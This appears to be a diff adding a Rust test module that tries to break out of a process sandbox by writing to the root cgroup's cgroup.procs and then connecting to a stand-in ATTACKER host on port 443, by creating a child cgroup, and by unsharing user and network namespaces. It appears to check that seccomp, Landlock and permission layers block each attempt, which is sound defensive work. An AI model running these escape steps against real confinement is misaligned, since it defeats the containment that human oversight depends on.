@@ -1,0 +1,41 @@
+//! Leaving the confinement as a process: cgroups, namespaces, other processes.
+
+use super::call::at;
+use super::{Aim, Failure, Layer, Technique, ip};
+use crate::verify::ground::ATTACKER;
+
+pub(super) const ROWS: &[Technique] = &[
+    Technique::wire("leave-cgroup", "move to the root cgroup, then TCP", "34", FILES, leave_cgroup)
+        .root_may("root may write to any cgroup.procs; no role has rights over them"),
+    Technique::calls("child-cgroup", "make a cgroup below one's own", "34", FILES, child_cgroup)
+        .root_may("a cgroup below inherits the programs, so nothing is gained"),
+    Technique::calls(
+        "user-namespace",
+        "new user and network namespace",
+        "41",
+        &[Layer::Seccomp],
+        user_namespace,
+    )
+    .root_may("the programs follow the cgroup into any namespace"),
+];
+
+fn leave_cgroup(aim: &Aim) -> Result<(), Failure> {
+    std::fs::write(aim.cgroup_root.join("cgroup.procs"), "0").map_err(at("cgroup.procs"))?;
+    ip::tcp(aim, ATTACKER, 443)
+}
+
+fn child_cgroup(aim: &Aim) -> Result<(), Failure> {
+    let own = std::fs::read_to_string("/proc/self/cgroup").map_err(at("open"))?;
+    let own = own.lines().find_map(|line| line.strip_prefix("0::/")).unwrap_or("");
+    let child = aim.cgroup_root.join(own).join(format!("child-{}", aim.token));
+    std::fs::create_dir(&child).map_err(at("mkdir"))?;
+    std::fs::remove_dir(&child).map_err(at("rmdir"))
+}
+
+fn user_namespace(_: &Aim) -> Result<(), Failure> {
+    use nix::sched::{CloneFlags, unshare};
+    unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNET)
+        .map_err(|e| Failure { at: "unshare", error: e.into() })
+}
+
+const FILES: &[Layer] = &[Layer::Seccomp, Layer::Landlock, Layer::Permission];
